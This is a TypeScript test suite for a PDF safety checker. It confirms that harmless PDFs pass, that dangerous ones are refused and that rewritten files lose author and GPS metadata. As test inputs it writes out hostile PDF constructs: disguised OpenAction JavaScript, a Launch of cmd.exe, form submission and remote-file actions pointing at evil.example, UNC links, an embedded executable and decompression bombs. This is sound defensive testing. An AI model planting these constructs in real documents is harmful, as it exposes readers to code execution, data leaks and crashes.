import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { checkPdf } from './check-pdf.ts'
import { readPdf } from './read-pdf.ts'

type Part = string | Buffer

function pdf({
  catalog = '',
  page = '',
  objects = [],
  trailer = '',
}: Partial<Record<'catalog' | 'page' | 'trailer', string>> & { objects?: Part[] } = {}) {
  const all: Part[] = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${page}>>endobj\n`,
    ...objects.flatMap((object, at) => [`${10 + at} 0 obj`, object, '\nendobj\n']),
    `trailer<</Root 1 0 R${trailer}>>\n%%EOF\n`,
  ]
  return Buffer.concat(['%PDF-1.7\n', ...all].map((part) => Buffer.from(part)))
}
const stream = (dict: string, content: Part): Buffer => {
  const bytes = Buffer.from(content)
  return Buffer.concat([
    Buffer.from(`<<${dict}/Length ${bytes.length}>>stream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])
}
const hex = (bytes: Buffer): string => `${bytes.toString('hex')}>`
const compressed = (
  object: string,
  encode = (bytes: Buffer): Part => deflateSync(bytes),
  filter = '/FlateDecode',
  type = '/ObjStm',
) =>
  pdf({
    catalog: '/OpenAction 20 0 R',
    objects: [stream(`/Type${type}/N 1/First 5/Filter${filter}`, encode(Buffer.from(`20 0 ${object}`)))],
  })

const script = '<</S/JavaScript/JS(app.alert(1))>>'
const isOf = async (bytes: Buffer, isRemade = false) => (await checkPdf({ bytes, isRemade })).is

describe('A PDF', () => {
  it.each<[string, Buffer]>([
    ['of one empty page', pdf()],
    [
      'that speaks of scripts',
      pdf({
        page: '/Contents 10 0 R',
        objects: [stream('', '(/JavaScript, /JS, /Launch, /EmbeddedFile) Tj')],
      }),
    ],
    [
      'with links to the web and to a mail address',
      pdf({
        page: '/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>><</Subtype/Link/A<</S/URI/URI(mailto:a@b.example)>>>>]',
      }),
    ],
    ['that opens at a page', pdf({ catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>' })],
    [
      'with a form that only takes text',
      pdf({
        catalog: '/AcroForm<</Fields[10 0 R]>>',
        page: '/Annots[10 0 R]',
        objects: ['<</FT/Tx/T(Name)/V(Asha)/Subtype/Widget/Rect[0 0 9 9]>>'],
      }),
    ],
    ['with compressed objects', compressed('<</S/GoTo/D[3 0 R/Fit]>>')],
    [
      'with a table of objects that is wrong',
      Buffer.from(`${pdf()}xref\n0 1\n0000000009 65535 f \nstartxref\n99999\n%%EOF`),
    ],
  ])('%s is taken', async (_what, bytes) => {
    expect(await isOf(bytes)).toBe('passive')
    expect(await isOf(bytes, true)).toBe('passive')
  })

  const opening = (action: string, ...objects: Part[]) => pdf({ catalog: `/OpenAction ${action}`, objects })
  it.each<[string, Buffer]>([
    ['a script', opening(script)],
    ['a script, with a comment in between', opening('<</S%c\n/JavaScript/JS(1)>>')],
    ['a script, whose name is an object of its own', opening('<</S 10 0 R>>', '/JavaScript')],
    ['a script, in other letters', opening('<</S/J#61v#61Script>>')],
    ['a script that is a stream', opening('<</S/Whatever/#4aS 10 0 R>>', stream('', 'app.alert(1)'))],
    [
      'a script among the names',
      pdf({ catalog: '/Names<</JavaScript<</Names[(a)10 0 R]>>>>', objects: [script] }),
    ],
    ['a script behind a key', pdf({ page: `/AA<</O ${script}>>` })],
    [
      'a script behind a field',
      pdf({ page: '/Annots[<</Subtype/Widget/AA<</K 10 0 R>>>>]', objects: [script] }),
    ],
    ['a script in compressed objects', compressed(script)],
    [
      'a script in objects that are called compressed in other letters',
      compressed(script, undefined, undefined, '/#4fbjStm'),
    ],
    ['a script in objects in hexadecimal digits', compressed(script, hex, '/ASCIIHexDecode')],
    [
      'a script in objects that are encoded twice',
      compressed(script, (bytes) => hex(deflateSync(bytes)), '[/ASCIIHexDecode/FlateDecode]'),
    ],
    [
      'a script in objects whose filter is an object',
      pdf({
        objects: [
          '/FlateDecode',
          stream('/Type/ObjStm/N 1/First 5/Filter 10 0 R', deflateSync(`20 0 ${script}`)),
        ],
      }),
    ],
    ['a program to start', opening('<</S\n/Launch/F(cmd.exe)>>')],
    ['a form that is sent', opening('<</S/SubmitForm/F(https://evil.example)>>')],
    ['data that is fetched', opening('<</S/ImportData/F(x.fdf)>>')],
    ['another file that is opened', opening('<</S/GoToR/F(//evil.example/x.pdf)/D[0/Fit]>>')],
    ['a file inside that is opened', opening('<</S/GoToE/T<</R/C>>>>')],
    [
      'a link to another machine',
      pdf({ page: '/Annots[<</Subtype/Link/A<</S/URI/URI(file://evil.example/x)>>>>]' }),
    ],
    [
      'a link to another machine, as a path',
      pdf({ page: '/Annots[<</Subtype/Link/A<</S/URI/URI(\\\\\\\\evil.example\\\\x)>>>>]' }),
    ],
    ['a link that is a script', pdf({ page: '/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:x)>>>>]' })],
    ['a film', pdf({ page: '/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]' })],
    ['a sound', pdf({ page: '/Annots[<</Subtype/Sound/Sound 10 0 R>>]' })],
    ['a rendition', pdf({ page: '/Annots[<</Subtype/Screen/A<</S/Rendition>>>>]' })],
    ['a form of the other kind', pdf({ catalog: '/AcroForm<</XFA[(template)10 0 R]>>' })],
    ['a file inside', pdf({ objects: [stream('/Type/EmbeddedFile', 'MZ')] })],
    ['a list of files', pdf({ catalog: '/Names<</EmbeddedFiles 10 0 R>>' })],
    ['a file behind a note', pdf({ page: '/Annots[<</Subtype/FileAttachment/FS<</EF<</F 10 0 R>>>>>>]' })],
    [
      'a stream of another file',
      pdf({ page: '/Contents 10 0 R', objects: [stream('/F(//evil.example/x)', '')] }),
    ],
    ['a page of another file', pdf({ objects: [stream('/Subtype/Form/Ref<</F(x.pdf)/Page 0>>', '')] })],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await isOf(bytes)).toBe('active')
    expect(await isOf(bytes, true)).toBe('active')
  })

  it('that is encrypted is refused as such', async () => {
    expect(await isOf(pdf({ trailer: '/Encrypt<</Filter/Standard/V 1/R 2>>' }))).toBe('encrypted')
    expect(await isOf(pdf({ trailer: '/Encrypt 10 0 R', objects: ['<</Filter/Standard/V 5>>'] }))).toBe(
      'encrypted',
    )
  })

  const objectStream = (filter: string, content: Part) =>
    pdf({ objects: [stream(`/Type/ObjStm/N 1/First 5/Filter${filter}`, content)] })
  const bomb = () => deflateSync(Buffer.alloc(150 * 1024 * 1024))
  const broken: readonly [string, () => Buffer][] = [
    ['that is none', () => Buffer.from('%PDF-1.7\nHello')],
    ['without pages', () => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>')],
    ['whose compressed objects are a bomb', () => objectStream('/FlateDecode', bomb())],
  ]
  const monsters: readonly [string, () => Buffer][] = [
    ['cut off', () => pdf().subarray(0, 40)],
    ['with a bomb in a bomb', () => objectStream('[/FlateDecode/FlateDecode]', deflateSync(bomb()))],
    [
      'whose table claims a billion objects',
      () => pdf({ objects: [stream('/Type/XRef/Size 1000000000/W[0 0 0]/Root 1 0 R', '')] }),
    ],
    ['of a million brackets', () => pdf({ page: `/X${'['.repeat(1_000_000)}` })],
    [
      'of streams that never end',
      () => pdf({ objects: Array.from({ length: 100_000 }, () => '<<>>stream\n') }),
    ],
  ]
  const isRefused = async (make: () => Buffer) => {
    const bytes = make()
    const before = process.memoryUsage().rss
    expect(await readPdf({ bytes, isRemade: true })).toEqual({ is: 'broken' })
    expect(process.memoryUsage().rss - before).toBeLessThan(400 * 1024 * 1024)
  }
  it.each(broken)('%s is refused as broken', { timeout: 30_000 }, (_what, make) => isRefused(make))
  it.each(monsters)(
    '%s is refused as broken, and takes no process along',
    {
      timeout: 60_000,
      tags: ['slow'],
    },
    (_what, make) => isRefused(make),
  )
})

describe('A PDF that is written again', () => {
  const remade = async (bytes: Buffer) => {
    const result = await checkPdf({ bytes, isRemade: true })
    if (result.is !== 'passive') throw new Error(result.is)
    return Buffer.from(result.bytes)
  }

  it('keeps its pages, bookmarks, fields and what reads it aloud', async () => {
    const catalog = '/Lang(hi)/StructTreeRoot 10 0 R/Outlines 11 0 R/AcroForm<</Fields[12 0 R]>>'
    const objects = [
      '<</Type/StructTreeRoot>>',
      '<</First 13 0 R>>',
      '<</FT/Tx/T(Name)/V(Asha)/Subtype/Widget/Rect[0 0 9 9]>>',
      '<</Title(Part one)>>',
    ]
    const text = (await remade(pdf({ catalog, objects }))).toString('latin1')
    expect(text.startsWith('%PDF-1.7')).toBe(true)
    const again = await checkPdf({ bytes: await remade(pdf({ catalog, objects })), isRemade: true })
    expect(again.is).toBe('passive')
  })

  it('no longer says who wrote it, with what, when and where', async () => {
    const secret = 'Asha Verma'
    const photo = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
      .withExif({ IFD0: { Artist: secret }, IFD3: { GPSLatitude: '27/1 10/1 0/1' } })
      .jpeg()
      .toBuffer()
    expect(photo.includes(secret)).toBe(true)
    const bytes = pdf({
      catalog: '/Metadata 10 0 R/PieceInfo<</Word(Asha Verma)>>/Perms 14 0 R',
      trailer: '/Info 11 0 R/ID[(Asha Verma)(Asha Verma)]',
      page: '/Resources<</XObject<</Photo 12 0 R>>>>/Annots[13 0 R 15 0 R]/LastModified(Asha Verma)',
      objects: [
        stream('/Type/Metadata/Subtype/XML', secret),
        `<</Author(${secret})/Producer(${secret})>>`,
        stream('/Subtype/Image/Filter/DCTDecode/Width 8/Height 8', photo),
        `<</Subtype/Text/Rect[0 0 9 9]/T(${secret})/Contents(A note)>>`,
        `<</Type/Sig/Name(${secret})>>`,
        '<</FT/Sig/T(Signature1)/V 14 0 R/Subtype/Widget/Rect[0 0 9 9]>>',
      ],
    })
    const written = await remade(bytes)
    const { PDFDocument, PDFRawStream } = await import('@cantoo/pdf-lib')
    const document = await PDFDocument.load(written, { updateMetadata: false })
    const parts = document.context
      .enumerateIndirectObjects()
      .map(
        ([, object]) =>
          `${object} ${object instanceof PDFRawStream ? Buffer.from(object.getContents()).toString('latin1') : ''}`,
      )
    expect(parts.join('\n')).toContain('A note')
    expect(parts.join('\n')).not.toContain(secret)
    expect(document.getAuthor()).toBeUndefined()
    const stored = document.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) =>
        object instanceof PDFRawStream && String(object.dict).includes('DCTDecode')
          ? [Buffer.from(object.getContents())]
          : [],
      )
    expect((await sharp(stored[0]).metadata()).exif).toBeUndefined()
    expect(await sharp(stored[0]).stats()).toMatchObject({ isOpaque: true })
  })

  it('has nothing of an object that its own table names instead of the last of that number', async () => {
    const body = `%PDF-1.7\n4 0 obj\n${script}\nendobj\n${pdf({ catalog: '/OpenAction 4 0 R' }).subarray(9)}`
    const sent = `${body.replace(/trailer[\s\S]*$/, '')}4 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n`
    const table = `xref\n4 1\n${String(sent.indexOf('4 0 obj')).padStart(10, '0')} 00000 n \n`
    const bytes = Buffer.from(
      `${sent}${table}trailer<</Size 5/Root 1 0 R>>\nstartxref\n${sent.length}\n%%EOF\n`,
    )
    expect((await remade(bytes)).toString('latin1')).not.toContain('JavaScript')
  })

  it('has nothing of what no page leads to', async () => {
    const bytes = await remade(pdf({ objects: ['(left over)'] }))
    expect(bytes.toString('latin1')).not.toContain('left over')
  })
})
